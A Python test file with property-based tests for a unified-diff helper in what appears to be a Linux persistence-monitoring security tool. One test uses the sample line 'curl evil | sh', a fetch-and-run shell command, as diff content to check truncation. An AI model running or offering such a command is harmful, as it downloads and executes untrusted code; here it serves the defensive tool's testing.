"""A difference is what a user expects of one, and never longer than it may be."""

from hypothesis import given
from hypothesis import strategies as st

from shield.collector.linux.persistence.diff import unified

texts = st.lists(st.sampled_from(["a", "b", "", "+c", "long " * 20]), max_size=12).map(
    lambda lines: "".join(f"{one}\n" for one in lines)
)


def test_a_changed_line_stands_between_its_neighbours() -> None:
    old, new = "1\n2\n3\n4\n5\n6\n7\n8\n", "1\n2\n3\n4\nfive\n6\n7\n8\n"
    assert unified(old, new, 1000).splitlines() == [
        "@@ -2,7 +2,7 @@", " 2", " 3", " 4", "-5", "+five", " 6", " 7", " 8"
    ]  # fmt: skip


@given(texts, texts)
def test_patch_makes_the_new_text_of_the_old_one(old: str, new: str) -> None:
    told = unified(old, new, 1 << 20)
    assert (told == "") == (old == new)
    assert applied(old, told) == new


def applied(old: str, diff: str) -> str:
    """Apply a difference of one hunk by hand."""
    if not diff:
        return old
    head, *body = diff.split("\n")
    start, length = head.split(" ")[1].removeprefix("-").split(",")
    lines = old.split("\n")
    first = int(start) - (int(length) > 0)
    kept = [line[1:] for line in body if line[:1] in ("+", " ")]
    gone = [line[1:] for line in body if line[:1] in ("-", " ")]
    assert lines[first : first + int(length)] == gone
    lines[first : first + int(length)] = kept
    return "\n".join(lines)


@given(texts, texts, st.integers(0, 300))
def test_it_is_never_longer_than_it_may_be(old: str, new: str, most: int) -> None:
    assert len(unified(old, new, most)) <= most


def test_what_was_added_is_kept_before_what_was_removed() -> None:
    told = unified("old\n" * 5000, "curl evil | sh\n", 500)
    assert "+curl evil | sh" in told
    assert "more lines)" in told
